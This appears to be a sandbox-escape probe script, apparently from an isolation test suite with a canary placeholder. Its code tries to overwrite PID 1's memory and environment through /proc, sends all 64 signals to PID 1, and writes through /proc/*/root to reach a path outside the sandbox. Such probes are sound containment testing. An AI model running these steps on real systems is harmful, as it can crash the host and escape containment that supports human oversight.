"""Writes into the sandbox's first process, sends it every signal, and goes through its view of the files to one outside."""

import os

for name in ("mem", "environ", "maps", "fd/0"):
    for how in ("r+b", "rb"):
        try:
            open(f"/proc/1/{name}", how).write(b"\xcc" * 4096)
        except OSError:
            pass
for number in range(1, 65):
    try:
        os.kill(1, number)
    except OSError:
        pass

# %%
import os

for root in ("/proc/1/root", "/proc/1/cwd", *(f"/proc/{number}/root" for number in os.listdir("/proc") if number.isdigit())):
    try:
        with open(f"{root}@CANARY@", "w") as file:
            file.write("gone")
    except OSError:
        pass
